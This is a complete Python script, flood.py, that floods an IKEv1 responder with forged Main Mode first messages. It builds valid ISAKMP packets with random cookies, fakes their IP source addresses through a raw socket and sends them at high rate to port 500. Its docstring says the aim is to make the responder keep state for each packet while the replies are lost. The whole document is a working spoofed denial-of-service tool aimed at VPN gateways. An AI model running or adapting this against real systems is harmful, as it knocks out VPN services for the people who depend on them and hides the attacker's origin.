#!/usr/bin/env python3
"""flood.py - send forged IKEv1 Main Mode first messages, from a process of its own.

    flood.py --target ADDR --count N [--rate R] [--source-net CIDR] [--seed S] [--port 500]

Every message is a well-formed MM1 (one ISAKMP proposal: AES-CBC-128, SHA1, pre-shared key, MODP-1024, 8 h), so
the responder parses it, selects the proposal and keeps state for it, with a random initiator cookie, a random
source address in --source-net (forged: written by hand in the IP header through a raw socket) and a random source
port, at R messages per second (0: as fast as the socket takes them). The replies go to the forged addresses and
are lost. Prints one line:
FLOOD sent=N seconds=S rate=R
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time


def main_mode_first_message(cookie: bytes) -> bytes:
    """RFC 2408 §3.1 header + SA payload (RFC 2409 Appendix A attributes), 84 bytes."""
    attributes = b"".join(struct.pack("!HH", 0x8000 | kind, value) for kind, value in [
        (1, 7),        # encryption: AES-CBC
        (14, 128),     # key length
        (2, 2),        # hash: SHA
        (3, 1),        # authentication: pre-shared key
        (4, 2),        # group: MODP-1024
        (11, 1),       # life type: seconds
        (12, 28800),   # life duration
    ])
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attributes), 1, 1, 0) + attributes
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    sa = struct.pack("!BBHII", 0, 0, 12 + len(proposal), 1, 1) + proposal
    length = 28 + len(sa)
    header = cookie + bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, length)
    return header + sa


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source: bytes, destination: bytes, sport: int, dport: int, payload: bytes, ident: int) -> bytes:
    udp_length = 8 + len(payload)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_length)
    udp = struct.pack("!HHHH", sport, dport, udp_length, 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, ident & 0xFFFF, 0, 64, socket.IPPROTO_UDP, 0,
                     source, destination)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--target", required=True)
    parser.add_argument("--count", type=int, default=100_000)
    parser.add_argument("--source-net", default="10.233.0.0/16")
    parser.add_argument("--port", type=int, default=500)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--rate", type=float, default=0)
    options = parser.parse_args()
    rng = random.Random(options.seed)
    net = ipaddress.ip_network(options.source_net)
    hosts = net.num_addresses - 2
    destination = socket.inet_aton(options.target)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    start = time.monotonic()
    sent = 0
    for index in range(options.count):
        if options.rate > 0 and index % 100 == 0:
            ahead = start + index / options.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        source = (net.network_address + 1 + rng.randrange(hosts)).packed
        payload = main_mode_first_message(rng.getrandbits(64).to_bytes(8, "big"))
        packet = datagram(source, destination, rng.randrange(1024, 65536), options.port, payload, index)
        while True:
            try:
                raw.sendto(packet, (options.target, 0))
                sent += 1
                break
            except BlockingIOError:
                time.sleep(0.0005)
            except OSError as error:  # ENOBUFS: the queue is full, wait a little
                if error.errno != 105:
                    raise
                time.sleep(0.0005)
    seconds = time.monotonic() - start
    print(f"FLOOD sent={sent} seconds={seconds:.2f} rate={sent / seconds:.0f}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
